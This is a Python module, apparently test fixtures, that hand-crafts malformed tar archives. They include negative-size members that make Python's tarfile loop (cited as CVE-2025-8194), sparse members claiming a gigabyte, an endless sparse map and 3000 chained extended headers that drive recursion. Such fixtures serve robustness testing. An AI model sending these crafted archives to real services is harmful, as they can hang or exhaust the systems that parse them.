"""Tars that no program writes: members of sizes below nothing, and members with holes."""

import tarfile
from collections.abc import Callable, Mapping

END = bytes(1024)
FIRST = "a.txt"  # the member before the crafted one


def header(name: str, size: int, kind: bytes = tarfile.REGTYPE, extra: bytes = b"") -> bytes:
    """A member's block as GNU tar writes it. size: any, also below 0; extra: from byte 386, where holes are told."""
    info = tarfile.TarInfo(name)
    info.type = kind
    block = bytearray(info.tobuf(tarfile.GNU_FORMAT))
    block[124:136] = tarfile.itn(size, 12, tarfile.GNU_FORMAT)
    block[386 : 386 + len(extra)] = extra
    block[148:156] = b" " * 8
    block[148:156] = b"%06o\0 " % sum(block)
    return bytes(block)


def told(facts: Mapping[str, str]) -> bytes:
    """An extended header, of the member that follows."""
    lines = b""
    for name, value in facts.items():
        rest = f" {name}={value}\n"
        length = next(n for n in range(len(rest), len(rest) + 9) if n == len(rest) + len(str(n)))
        lines += f"{length}{rest}".encode()
    return header("told", len(lines), tarfile.XHDTYPE) + lines + bytes(-len(lines) % 512)


def _holes(name: str, size: int, real: int) -> bytes:
    numbers = [tarfile.itn(number, 12, tarfile.GNU_FORMAT) for number in (real - 512, 512, real)]
    return header(name, size, tarfile.GNUTYPE_SPARSE, numbers[0] + numbers[1] + bytes(73) + numbers[2])


_NEW = {"GNU.sparse.major": "1", "GNU.sparse.minor": "0", "GNU.sparse.realsize": str(1 << 30)}
_MAP = b"1\n0\n512\n"

ENDLESS: dict[str, Callable[[str], bytes]] = {
    "a size below nothing": lambda name: header(name, -512),
    "another member's": lambda name: header("b.bin", -512) + header(name, 0),
    "of an unknown kind": lambda name: header(name, -512, b"Z"),
    "in an extended header": lambda name: told({"size": "-1536"}) + header(name, 0),
    "beside a real one": lambda name: told({"GNU.sparse.realsize": "100"}) + header(name, -1536),
    "with holes": lambda name: _holes(name, -512, 1 << 30),
}
"""Members that lead back to themselves, by name, where tarfile reads them (CVE-2025-8194)."""

HOLES: dict[str, Callable[[str], bytes]] = {
    "GNU": lambda name: _holes(name, 512, 1 << 30) + bytes(512),
    "PAX 0.1": lambda name: told({"GNU.sparse.map": "0,512", "GNU.sparse.size": str(1 << 30)}) + header(name, 0),
    "PAX 1.0": lambda name: told(_NEW | {"GNU.sparse.name": name}) + header(name, 512) + _MAP.ljust(512, b"\0"),
}
"""Members of a GB, of which a kB is there."""


def endless_map(name: str) -> bytes:
    """A member whose map of holes has no end."""
    return told(_NEW | {"GNU.sparse.name": name}) + header(name, 512) + b"9999\n".ljust(512, b"\n")


CHAIN = told({"comment": "one of many"}) * 3000
"""Extended headers that follow one another: tarfile calls itself for each."""


def crafted(member: bytes) -> bytes:
    """A tar of a small file and these bytes."""
    return header(FIRST, 5) + b"hello".ljust(512, b"\0") + member + END
